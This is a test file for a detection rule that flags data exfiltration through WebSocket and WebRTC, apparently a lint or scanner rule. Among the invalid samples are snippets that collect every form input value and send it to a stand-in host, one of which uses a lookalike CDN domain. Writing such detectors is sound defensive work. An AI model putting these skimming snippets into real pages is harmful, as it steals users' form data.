import rule from './websocket-webrtc-exfil.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "var ws = new WebSocket('wss://chat.example/s'); ws.send('ping');",
    "var ws = new WebSocket(url); ws.send(msg);",
    { name: 'chat widget to its own literal host', code: "var ws = new WebSocket('wss://rt.chatvendor.example/ws'); ws.send(JSON.stringify({ type: 'message', text: input.value }));" },
    { name: 'a chat widget that also queries inputs (to focus them), sending none of their values', code: "var f = document.querySelectorAll('input, select'); f[0].focus(); var ws = new WebSocket('wss://ws.example/s'); ws.send(JSON.stringify(data));" },
  ],
  invalid: [
    { code: "var ws = new WebSocket('wss://ws.example/s'); ws.send(JSON.stringify(data));", messageIds: ['ws'], severity: 'low' },
    { code: "var pc = new RTCPeerConnection(); var ch = pc.createDataChannel('x'); ch.send(payload);", messageIds: ['rtc'] },
    { name: 'lookalike host', code: "var ws = new WebSocket('wss://jquery-cdn-static.example/s'); ws.send(JSON.stringify(data));", messageIds: ['ws'], severity: 'medium' },
    { name: 'what it sends comes from a sweep of the form', code: "var f = document.querySelectorAll('input, select'); var data = []; f.forEach(function (i) { data.push(i.value); }); var ws = new WebSocket('wss://ws.example/s'); ws.send(JSON.stringify(data));", messageIds: ['ws'], severity: 'medium' },
  ],
});
